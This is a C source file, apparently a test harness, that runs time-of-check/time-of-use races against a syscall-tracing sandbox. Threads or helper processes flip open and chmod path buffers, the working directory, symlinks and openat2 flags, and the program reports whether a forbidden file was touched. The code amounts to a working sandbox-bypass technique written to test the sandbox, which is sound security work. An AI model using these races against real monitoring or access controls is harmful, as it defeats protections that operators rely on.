/* Time-of-check/time-of-use races against a tracer that reads the path, decides, and lets the
 * kernel read it again.  `race MODE SECONDS ARGS...`; exit 0 as soon as the forbidden file
 * exists (checked with stat, a read), 1 when time runs out.
 *   buf     ALLOWED FORBIDDEN        a thread flips the path buffer of open(O_CREAT)
 *   shm     ALLOWED FORBIDDEN        another process flips it through a MAP_SHARED mapping
 *   vmwrite ALLOWED FORBIDDEN        another process flips it with process_vm_writev
 *   cwd     DIR_OK DIR_NO NAME       a sibling thread flips the shared cwd; open(NAME) relative
 *   symlink LINK TARGET_OK TARGET_NO NAME   another process swaps LINK; open(LINK/NAME)
 *   chmod   ALLOWED FORBIDDEN        a thread flips the path buffer of chmod(0600); got through
 *                                    when FORBIDDEN's mode is 0600
 *   how     FORBIDDEN                a thread flips openat2's open_how.flags between O_RDONLY
 *                                    and O_WRONLY|O_CREAT
 * buf, shm, vmwrite and chmod: where ALLOWED and FORBIDDEN have one length and differ in one
 * byte, that byte alone is written (one store), so every read of the buffer finds one whole
 * name; other names are copied whole and can be read torn. */
#include "common.h"
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>

#define PATHMAX 4096
static char *victim;              /* the buffer whose address is passed to open */
static const char *paths[2];      /* [0] allowed, [1] forbidden */
static const char *forbidden_file;
static atomic_int stop;

/* Whether a and b have one length and differ in exactly one byte (its index in *at) */
static int one_byte_apart(const char *a, const char *b, size_t *at)
{
    size_t n = strlen(a), diffs = 0;
    if (n != strlen(b))
        return 0;
    for (size_t i = 0; i < n; i++)
        if (a[i] != b[i]) {
            *at = i;
            diffs++;
        }
    return diffs == 1;
}

static void flip_forever(char *buf)
{
    size_t at;
    if (one_byte_apart(paths[0], paths[1], &at)) {
        /* one store flips the name: the buffer never holds a torn one, so every read the
         * kernel makes finds one of the two whole names */
        volatile char *c = buf + at;
        for (unsigned i = 0; !atomic_load(&stop); i++)
            *c = paths[i & 1][at];
        return;
    }
    for (unsigned i = 0; !atomic_load(&stop); i++)
        strcpy(buf, paths[i & 1]);
}

static void *flipper_thread(void *arg)
{
    (void)arg;
    flip_forever(victim);
    return NULL;
}

static void *cwd_thread(void *arg)
{
    (void)arg;
    for (unsigned i = 0; !atomic_load(&stop); i++)
        if (chdir(paths[i & 1]) < 0)
            break;
    return NULL;
}

enum call { OPEN, CHMOD, OPENAT2 };
static enum call call = OPEN;
static struct open_how *how;

static int forbidden_changed(void)
{
    struct stat st;
    if (call == CHMOD)
        return stat(forbidden_file, &st) == 0 && (st.st_mode & 0777) == 0600;
    return stat(forbidden_file, &st) == 0;
}

static long attempt(const char *name)
{
    if (call == CHMOD)
        return syscall(SYS_chmod, name, 0600);
    if (call == OPENAT2)
        return syscall(SYS_openat2, AT_FDCWD, name, how, sizeof *how);
    return syscall(SYS_open, name, O_WRONLY | O_CREAT, 0644);
}

static void *how_thread(void *arg)
{
    (void)arg;
    for (unsigned i = 0; !atomic_load(&stop); i++)
        how->flags = i & 1 ? O_WRONLY | O_CREAT : O_RDONLY;
    return NULL;
}

static int hammer(double seconds, const char *name)
{
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    long tries = 0, opened = 0;
    for (;;) {
        long rc = attempt(name);
        tries++;
        if (rc >= 0) {
            opened++;
            if (call != CHMOD)
                close((int)rc);
            if (forbidden_changed()) {
                printf("race: got through after %ld tries (%ld calls succeeded)\n", tries, opened);
                return GOT_THROUGH;
            }
        }
        clock_gettime(CLOCK_MONOTONIC, &t);
        if ((double)(t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > seconds)
            break;
    }
    printf("race: blocked: %ld tries, %ld calls succeeded, the forbidden side never changed\n",
           tries, opened);
    return BLOCKED;
}

static pid_t fork_flipper(void (*body)(void))
{
    pid_t p = fork();
    if (p < 0)
        die_setup("fork");
    if (p == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        body();
        _exit(0);
    }
    return p;
}

static void flip_shared(void) { flip_forever(victim); }

static pid_t parent;
static char *victim_in_parent;

static void flip_vm(void)
{
    char local[PATHMAX];
    size_t at = 0;
    /* names one byte apart: that byte alone is written, never a torn name (as flip_forever) */
    int one = one_byte_apart(paths[0], paths[1], &at);
    for (unsigned i = 0;; i++) {
        size_t n = one ? 1 : strlen(paths[i & 1]) + 1;
        memcpy(local, paths[i & 1] + at, n);
        struct iovec l = {local, n}, r = {victim_in_parent + at, n};
        if (process_vm_writev(parent, &l, 1, &r, 1, 0) < 0) {
            printf("process_vm_writev: %s\n", strerror(errno));
            return;
        }
    }
}

static const char *swap_link, *swap_tmp;
static void swap_symlinks(void)
{
    for (unsigned i = 0;; i++) {
        unlink(swap_tmp);
        if (symlink(paths[i & 1], swap_tmp) < 0 || rename(swap_tmp, swap_link) < 0) {
            printf("swapper: %s\n", strerror(errno));
            return;
        }
    }
}

static void kill_flipper(pid_t p)
{
    kill(p, SIGKILL);
    waitpid(p, NULL, 0);
}

int main(int argc, char **argv)
{
    need_args(argc, argv, 4, "race MODE SECONDS ARGS...");
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *mode = argv[1];
    double seconds = atof(argv[2]);
    int rc;
    if (strcmp(mode, "chmod") == 0)
        call = CHMOD;
    if (strcmp(mode, "how") == 0) {
        call = OPENAT2;
        forbidden_file = argv[3];
        how = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (how == MAP_FAILED)
            die_setup("mmap");
        how->mode = 0644;
        pthread_t th;
        pthread_create(&th, NULL, how_thread, NULL);
        rc = hammer(seconds, argv[3]);
        atomic_store(&stop, 1);
        pthread_join(th, NULL);
    } else if (strcmp(mode, "buf") == 0 || strcmp(mode, "shm") == 0 ||
               strcmp(mode, "vmwrite") == 0 || call == CHMOD) {
        paths[0] = argv[3];
        paths[1] = argv[4];
        forbidden_file = argv[4];
        int shared = strcmp(mode, "shm") == 0;
        victim = mmap(NULL, PATHMAX, PROT_READ | PROT_WRITE,
                      (shared ? MAP_SHARED : MAP_PRIVATE) | MAP_ANONYMOUS, -1, 0);
        if (victim == MAP_FAILED)
            die_setup("mmap");
        strcpy(victim, paths[0]);
        if (strcmp(mode, "buf") == 0 || call == CHMOD) {
            pthread_t th;
            pthread_create(&th, NULL, flipper_thread, NULL);
            rc = hammer(seconds, victim);
            atomic_store(&stop, 1);
            pthread_join(th, NULL);
        } else {
            parent = getpid();
            victim_in_parent = victim;
            pid_t p = fork_flipper(shared ? flip_shared : flip_vm);
            rc = hammer(seconds, victim);
            kill_flipper(p);
        }
    } else if (strcmp(mode, "cwd") == 0) {
        need_args(argc, argv, 6, "race cwd SECONDS DIR_OK DIR_NO NAME");
        paths[0] = argv[3];
        paths[1] = argv[4];
        static char f[PATHMAX];
        snprintf(f, sizeof f, "%s/%s", argv[4], argv[5]);
        forbidden_file = f;
        pthread_t th;
        pthread_create(&th, NULL, cwd_thread, NULL);
        rc = hammer(seconds, argv[5]);
        atomic_store(&stop, 1);
        pthread_join(th, NULL);
    } else if (strcmp(mode, "symlink") == 0) {
        need_args(argc, argv, 7, "race symlink SECONDS LINK TARGET_OK TARGET_NO NAME");
        swap_link = argv[3];
        static char tmp[PATHMAX], f[PATHMAX], name[PATHMAX];
        snprintf(tmp, sizeof tmp, "%s.tmp", argv[3]);
        swap_tmp = tmp;
        paths[0] = argv[4];
        paths[1] = argv[5];
        snprintf(f, sizeof f, "%s/%s", argv[5], argv[6]);
        forbidden_file = f;
        snprintf(name, sizeof name, "%s/%s", argv[3], argv[6]);
        pid_t p = fork_flipper(swap_symlinks);
        rc = hammer(seconds, name);
        kill_flipper(p);
    } else {
        fprintf(stderr, "race: unknown mode %s\n", mode);
        return SETUP;
    }
    return rc;
}
